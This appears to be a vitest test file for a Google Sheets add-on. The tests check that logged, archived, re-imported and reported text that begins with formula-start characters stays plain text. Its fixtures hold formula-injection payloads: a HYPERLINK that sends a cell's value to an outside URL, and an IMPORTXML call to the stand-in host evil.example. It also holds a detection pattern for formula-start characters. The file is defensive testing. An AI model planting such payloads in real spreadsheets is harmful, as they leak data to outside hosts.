// No write path turns text into a formula, for every character that starts one: plan text, a member's log, and the
// rows the add-on writes back (Källa and ID after an edit, the other members' Status on a revoke, an archive,
// Partiföreningar's headers on a re-import). Logg and Rapport leave as CSV: none of their values starts a formula.
import { describe, expect, it } from 'vitest';
import type { Action } from '../../../shared/model/action.ts';
import { REPORT_SHEET_NAMES } from '../../../shared/model/sheet-names.ts';
import { ACTIVITIES, BRANCHES, LOG } from '../../../shared/sheets/columns.ts';
import {
  type AddOn,
  importText,
  logActions,
  recordDeployment,
  SEED_TEXT,
  seedActions,
  shown,
  typeRow,
  withSeed,
} from '../../support/add-on.ts';

/** Every character that starts a formula (or a DDE payload) in some spreadsheet program. */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;
const payload = (start: string) => `${start}HYPERLINK("http://x/?"&B2,"Källa")`;

function sheet(addOn: AddOn, name: string) {
  const found = addOn.runtime.SpreadsheetApp.getActive().getSheetByName(name);
  if (!found) throw new Error(`no sheet ${name}`);
  return found;
}

/** Every cell of a sheet holds no formula. */
function expectNoFormula(addOn: AddOn, name: string): void {
  const formulas = sheet(addOn, name).getDataRange().getFormulas().flat();
  expect(formulas.filter((formula) => formula !== '')).toEqual([]);
}

/** What a CSV export of the sheet carries: the values, without the apostrophe that marks text in the sheet. */
function expectExportSafe(addOn: AddOn, name: string): void {
  const values = sheet(addOn, name).getDataRange().getDisplayValues().flat();
  expect(values.filter((value) => FORMULA_START.test(value))).toEqual([]);
}

describe('formula injection', () => {
  it('stores plan and logged text that looks like a formula as plain text', async () => {
    const addOn = await withSeed();
    const hostile = SEED_TEXT.replace(
      '· ta det samordnade ansvaret i EU-valrörelsen',
      '· =IMPORTXML("https://evil.example/x";"//a")',
    );
    expect((await importText(addOn, hostile)).ok).toBe(true);
    const row = shown(addOn, ACTIVITIES.name).findIndex((cells) => cells[0] === 'P3.1') + 1;
    const activity = addOn.runtime.cell(`'Aktiviteter'!C${row}`);
    expect(activity.formula).toBe('');
    expect(activity.value).toBe('=IMPORTXML("https://evil.example/x";"//a")');
    expect(activity.formulaBar).toBe('\'=IMPORTXML("https://evil.example/x";"//a")');

    // Rows the add-on moves are written again: still text, and still safe to export.
    const [action] = seedActions(1);
    logActions(addOn, [{ ...(action as Action), member: '+46 70 123', note: '=1+1' }]);
    addOn.runtime.ui.respond({ button: 'OK', text: '2024' });
    addOn.runtime.ui.clickMenuItem('Målkoll', 'Arkivera år…');
    expect(addOn.runtime.cell("'Logg 2024'!B2")).toMatchObject({ formula: '', value: "'+46 70 123" });
    expect(addOn.runtime.cell("'Logg 2024'!J2")).toMatchObject({ formula: '', value: "'=1+1", formulaBar: "''=1+1" });
  });

  it.each(STARTS)('writes Källa and ID back as text when a row is typed (%j)', async (start) => {
    const addOn = await withSeed();
    const logg = sheet(addOn, LOG.name);
    // Row 2 has Källa and ID, held as quoted text that looks like a formula; row 3 has a Källa like it and no ID.
    const quoted = `'${payload(start)}`;
    logg.getRange('A2:L3').setValues([
      ['2024-03-05', 'Ada', '', 'U3', '', 'article.published', 1, '', '', '', quoted, quoted],
      ['2024-03-06', 'Bo', '', 'U3', '', 'article.published', 1, '', '', '', quoted, ''],
    ]);
    // One paste over both rows: onEdit gives row 3 its id and writes row 2's cells back as they were.
    addOn.runtime.userEdit("'Logg'!I2:I3", 'Feministisk');
    expect(addOn.runtime.cell("'Logg'!L3").value).toMatch(/^[0-9a-f-]{36}$/);
    for (const a1 of ['K2', 'L2', 'K3']) {
      expect(addOn.runtime.cell(`'Logg'!${a1}`)).toMatchObject({ formula: '', value: `'${payload(start)}` });
    }
    expectNoFormula(addOn, LOG.name);
    expectExportSafe(addOn, LOG.name);
  });

  it.each(STARTS)("writes the other members' Status back as text on a revoke (%j)", async (start) => {
    const addOn = await withSeed();
    recordDeployment(addOn, 'https://script.google.com/macros/s/x/exec');
    addOn.bundle.call('inviteMember', { name: 'Ada', branch: 'Sundsvall' });
    addOn.bundle.call('inviteMember', { name: 'Bo', branch: 'Sundsvall' });
    sheet(addOn, 'Medlemmar')
      .getRange('E2')
      .setValue(`'${payload(start)}`);
    expect(addOn.runtime.cell("'Medlemmar'!E2").formulaBar).toBe(`'${payload(start)}`);
    addOn.bundle.call('revokeMember', 'Bo');
    // Read as trimmed text, a status that starts with a tab or a line break is written back without it, as text.
    expect(addOn.runtime.cell("'Medlemmar'!E2")).toMatchObject({ formula: '', value: payload(start).trim() });
    expect(addOn.runtime.cell("'Medlemmar'!E3").value).toBe('Återkallad');
    expectNoFormula(addOn, 'Medlemmar');
  });

  it.each(STARTS)('moves logged text to the archive and up Logg as text (%j)', async (start) => {
    const addOn = await withSeed();
    const [old, kept] = seedActions(2, 9) as [Action, Action];
    logActions(addOn, [
      { ...old, at: '2023-05-02T10:00:00Z', member: payload(start), note: payload(start) },
      { ...kept, at: '2024-05-02T10:00:00Z', member: payload(start), note: payload(start) },
    ]);
    addOn.runtime.ui.respond({ button: 'OK', text: '2023' });
    addOn.runtime.ui.clickMenuItem('Målkoll', 'Arkivera år…');
    for (const name of [LOG.name, 'Logg 2023']) {
      expect(addOn.runtime.cell(`'${name}'!J2`)).toMatchObject({ formula: '', value: `'${payload(start)}` });
      expectNoFormula(addOn, name);
      expectExportSafe(addOn, name);
    }
  });

  it.each(STARTS)("writes the board's Partiföreningar headers back as text on a re-import (%j)", async (start) => {
    const addOn = await withSeed();
    const branches = sheet(addOn, BRANCHES.name);
    const width = branches.getLastColumn();
    // The board renamed a role column to something that looks like a formula; the plan's role comes back after it.
    branches.getRange(1, width).setValue(`'${payload(start)}`);
    expect((await importText(addOn, SEED_TEXT)).ok).toBe(true);
    // Headers are read as trimmed text: one that starts with a tab or a line break comes back without it, as text.
    expect(addOn.runtime.cell(`'${BRANCHES.name}'!${String.fromCharCode(64 + width)}1`)).toMatchObject({
      formula: '',
      value: payload(start).trim(),
    });
    expect(branches.getLastColumn()).toBe(width + 1);
    expectNoFormula(addOn, BRANCHES.name);
  });

  it('writes a report whose text looks like formulas so that it exports as text', async () => {
    const addOn = await withSeed();
    for (const [at, start] of STARTS.entries()) typeRow(addOn, BRANCHES.name, at + 2, [`'${start}Förening ${at}`]);
    logActions(
      addOn,
      seedActions(20, 4).map((action, at) => ({ ...action, branch: `${STARTS[at % STARTS.length]}Förening ${at}` })),
    );
    addOn.runtime.ui.clickMenuItem('Målkoll', 'Rapport per partiförening');
    const report = REPORT_SHEET_NAMES.branches(2024);
    const names = sheet(addOn, report).getDataRange().getDisplayValues().flat();
    expect(names).toContain("'=Förening 0");
    expectNoFormula(addOn, report);
    expectExportSafe(addOn, report);
    expectExportSafe(addOn, LOG.name);
  });
});
